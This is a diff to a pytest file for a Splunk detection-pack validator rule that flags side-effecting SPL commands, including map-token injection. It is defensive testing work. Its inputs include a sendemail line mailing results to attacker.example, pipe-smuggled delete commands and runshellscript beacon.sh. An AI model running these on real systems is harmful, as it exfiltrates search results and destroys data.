@@ -22,6 +22,20 @@ def _cp085(pack: Path, validate: Validate) -> list[Diagnostic]:
     return [d for d in validate(pack).diagnostics if d.rule == "CP085"]
 
 
+# A map token's value the search writes (how it does, to fill in)
+_WRITTEN = ("map search in detection 'Entra ID User Declined Consent For OAuth App' uses $next$, whose value the "
+            "search writes itself ({}): map writes the value into its search text and runs it, so a '|' in it starts "
+            "a command of the search's choosing (sendemail, delete...), which no rule reads; write that text in the "
+            "map search itself")
+
+
+def _one_at_next(pack: Path, validate: Validate) -> Diagnostic:
+    """The one CP085 finding, which must stand at the TTP search's ``$next$``."""
+    found = _cp085(pack, validate)
+    assert [at(d) for d in found] == [(TTP, *locate(pack, TTP, "$next$"))]
+    return found[0]
+
+
 def test_sendemail_at_the_end_of_a_search_is_an_error_at_the_command(pack: Path, validate: Validate) -> None:
     add_command(pack, 'sendemail to="drop@attacker.example" sendresults=true')
     result = validate(pack)
@@ -48,6 +62,13 @@ def test_sendemail_at_the_end_of_a_search_is_an_error_at_the_command(pack: Path,
     ("foreach * [| sendemail to=x@attacker.example]", "sendemail"),
     ('map maxsearches=1 search="| makeresults | collect index=main"', "collect"),
     ("SENDEMAIL to=x@attacker.example", "sendemail"),
+    ('append [| savedsearch "Mail The Findings"]', "savedsearch"),
+    ("append [savedsearch Mail_The_Findings]", "savedsearch"),
+    ('append [| loadjob savedsearch="analyst:search:Their Findings"]', "loadjob"),
+    ("runshellscript beacon.sh 1 a b c d e f g h", "runshellscript"),
+    ("append [| history events=false | table search]", "history"),
+    ("map Mail_The_Findings maxsearches=5", "map"),
+    ('map "Mail The Findings"', "map"),
 ])
 def test_each_such_command_is_found_wherever_it_runs(pack: Path, validate: Validate, command: str,
                                                       name: str) -> None:
@@ -66,9 +87,75 @@ def test_each_such_command_is_found_wherever_it_runs(pack: Path, validate: Valid
     "join user [search Operation=delete | fields user]",  # a subsearch's implicit search
     "appendpipe [sendemail | fields user]",  # no pipe: the terms of an implicit search, sendemail generates nothing
     "eval outputlookup=1, rest=2",  # field names
+    'map search="search user=$user$"',  # map runs its search string, not a saved search
 ])
 def test_the_words_as_text_are_not_commands(pack: Path, validate: Validate, command: str) -> None:
     add_command(pack, command)
+    assert _cp085(pack, validate) == []
+
+
+@pytest.mark.parametrize("map_search", [
+    "| makeresults | $next$ to=x@attacker.example",  # right after a "|"
+    "$next$",  # the whole search
+    "search user=a [$next$]",  # a subsearch opened without "|"
+    "search user=a [| $next$ | fields user]",  # after a "|" of a subsearch
+])
+def test_a_map_token_where_a_command_goes_is_an_error_at_the_token(pack: Path, validate: Validate,
+                                                                    map_search: str) -> None:
+    """Whatever the field's value, it names the command map runs: an event field's as much as an eval's."""
+    add_command(pack, f'map maxsearches=1 search="{map_search}"')
+    assert _one_at_next(pack, validate).message == (
+        "'$next$' in detection 'Entra ID User Declined Consent For OAuth App' stands where map's search names a "
+        "command: map writes each result's value of next there and runs it, so the value chooses the command "
+        "(sendemail, delete...) and no rule can read it; write the command in the search string")
+
+
+@pytest.mark.parametrize("before", [
+    'eval next="x | sendemail to=x@attacker.example"',
+    'eval next="x " . printf("%c", 124) . " delete"',  # the "|" made from its code
+    'eval next=if(count > 0, urldecode("x %7C delete"), user)',  # a branch the eval returns
+    'eval raw="x | delete" | stats values(raw) as next by user',  # through stats, by another name
+    'eval raw="x | delete" | rename raw as next',
+    'fillnull value="x | delete" next',
+    'eval next=user | replace "*" with "x | delete" in next',
+    'eval next=user | rex field=next mode=sed "s/.*/x | delete/"',
+    'fillnull value="x | delete"',  # every field
+])
+@pytest.mark.parametrize("map_search", [
+    "| makeresults $next$",  # an argument's place: the value's "|" starts a command of its own
+    r"search user=\"$next$\"",  # inside quotes: the value's own quote ends them
+])
+def test_a_map_token_the_search_writes_is_an_error_at_the_token(pack: Path, validate: Validate, before: str,
+                                                                 map_search: str) -> None:
+    """``eval next="x | sendemail ..." | map search="... $next$"``: CP085 read only the search's own commands."""
+    add_command(pack, f'{before} | map maxsearches=1 search="{map_search}"')
+    assert _one_at_next(pack, validate).message == _WRITTEN.format(
+        "a string of its own before the map, which can hold SPL")
+
+
+@pytest.mark.parametrize("command", ['strcat "x | delete" user next', 'foreach next [eval <<FIELD>>="| x"]'])
+def test_a_map_token_a_command_the_validator_cannot_read_writes_is_an_error(pack: Path, validate: Validate,
+                                                                             command: str) -> None:
+    """Valid SPL the engine does not read, holding a string that can be SPL, may write it into the field."""
+    add_command(pack, f'{command} | map maxsearches=1 search="search user=$next$"')
+    assert _one_at_next(pack, validate).message == _WRITTEN.format(
+        f"or may: '{command}' sets it, a command the validator cannot read")
+
+
+@pytest.mark.parametrize("before", [
+    "eval next=user",  # an event's value (CP086 judges those an attacker writes)
+    "eval next=count + 1",  # a number
+    'eval next=coalesce(user, "unknown user")',  # a string that cannot hold SPL
+    'eval next=if(count > 0, user, "x | delete") | eval next=user',  # written, then overwritten
+    'eval next="x | delete" | stats count as next by user',  # a count
+    'eval next=if(match(user, "^[a-z]+$"), user, null())',  # a condition's string is not returned
+    'eval next=user | fillnull value="x | delete" other',  # another field
+    'eval next=sha256("x | delete")',  # hexadecimal digits
+    'strcat "unknown " user next',  # read by no rule, but its strings cannot hold SPL
+])
+def test_a_map_token_on_a_value_the_search_does_not_write_passes(pack: Path, validate: Validate,
+                                                                  before: str) -> None:
+    add_command(pack, f'{before} | map maxsearches=1 search="search user=$next$"')
     assert _cp085(pack, validate) == []
 
 
@@ -87,8 +174,13 @@ def test_a_macro_writing_one_is_reported_once_in_its_own_file(pack: Path, valida
     assert found[0].message.startswith("'outputlookup' in macro 'entra_id_tidy' writes the results to a lookup")
 
 
-def test_an_argument_bringing_one_is_reported_at_the_call(pack: Path, validate: Validate) -> None:
-    define_macro(pack, "entra_id_then", "fields * | $next$", ("next",))
+@pytest.mark.parametrize("definition", [
+    "fields * | $next$",
+    # in a definition, $next$ where map's command goes is the call's argument, not a result's value
+    'map maxsearches=1 search="| makeresults | $next$"',
+])
+def test_an_argument_bringing_one_is_reported_at_the_call(pack: Path, validate: Validate, definition: str) -> None:
+    define_macro(pack, "entra_id_then", definition, ("next",))
     add_command(pack, "`entra_id_then(delete)`")
     found = _cp085(pack, validate)
     assert [at(d) for d in found] == [(TTP, *locate(pack, TTP, "`entra_id_then"))]
@@ -126,7 +218,7 @@ def test_escu_runs_none_but_its_four_baselines_outputlookup() -> None:
     own state with ``outputlookup``, not the detections running ``map`` searches or naming the words as text."""
     pack = escu_pack()
     context = RuleContext(pack, Path("/nonexistent"), dt.date(2026, 12, 1), frozenset(), None)
-    findings = list(side_effects.side_effects(context))
+    findings = [d for rule in side_effects.RULES for d in rule(context)]
     assert sorted((d.position.path.rsplit("/", 1)[-1], d.message.split("'")[1]) for d in findings) == [
         ("detect_gcp_storage_access_from_a_new_ip.yml", "outputlookup"),
         ("detect_s3_access_from_a_new_ip.yml", "outputlookup"),
